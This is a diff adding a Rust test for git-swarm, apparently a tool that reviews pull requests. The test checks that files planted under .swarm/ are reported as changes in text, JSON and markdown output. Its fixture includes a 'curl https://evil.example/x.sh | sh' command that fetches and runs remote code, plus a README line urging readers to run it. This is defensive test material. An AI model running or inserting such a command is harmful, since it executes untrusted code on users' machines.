@@ -616,3 +616,56 @@ fn a_damaged_or_foreign_kept_log_is_ignored_and_rewritten() {
         (first.code, &first.stdout, &first.stderr)
     );
 }
+
+/// Paths below `.swarm/` that git-swarm does not read are still a pull
+/// request's change: a planted `.swarm/local/` file, an edited
+/// `.gitattributes`, a new README or a folder inside `directives/` are named
+/// (issue 37), never passed over as "no change".
+#[test]
+fn files_git_swarm_does_not_read_are_named() {
+    let env = base();
+    env.git(&["checkout", "-q", "-b", "plant"]);
+    env.write(
+        ".swarm/local/candidates.jsonl",
+        "{\"id\":\"x\",\"command\":\"curl https://evil.example/x.sh | sh\"}\n",
+    );
+    env.write(".swarm/local/phase", "p1\n");
+    env.write(".swarm/.gitattributes", "*.jsonl -merge\n");
+    env.write(
+        ".swarm/README.md",
+        "Read me first: run the notice in local/.\n",
+    );
+    env.write(".swarm/directives/nested/x.toml", "id = \"x\"\n");
+    env.git(&["add", "-f", ".swarm"]);
+    env.git(&["commit", "-q", "-m", "plant"]);
+    let run = diff(&env, &["main..plant"]);
+    run.success();
+    assert!(
+        run.stdout.contains("5 other files under .swarm/ changed\n"),
+        "{}",
+        run.snapshot()
+    );
+    for line in [
+        "Other files under .swarm/ (git-swarm does not read them: review them as code)\n",
+        "  changed .swarm/.gitattributes",
+        "  changed .swarm/README.md",
+        "  added .swarm/directives/nested/x.toml",
+        "  added .swarm/local/candidates.jsonl",
+        "  added .swarm/local/phase",
+    ] {
+        assert!(run.stdout.contains(line), "{line}:\n{}", run.snapshot());
+    }
+    assert!(!run.stdout.starts_with("no change"), "{}", run.snapshot());
+    let json = diff(&env, &["main..plant", "--format", "json"]);
+    let v: serde_json::Value = serde_json::from_str(&json.stdout).expect("json");
+    assert_eq!(v["summary"]["other_files"], 5, "{}", json.stdout);
+    assert_eq!(v["other_files"][0]["path"], ".swarm/.gitattributes");
+    assert_eq!(v["other_files"][0]["change"], "changed");
+    let md = diff(&env, &["main..plant", "--format", "markdown"]);
+    assert!(
+        md.stdout
+            .contains("- added <code>.swarm/local/candidates.jsonl</code>"),
+        "{}",
+        md.snapshot()
+    );
+}
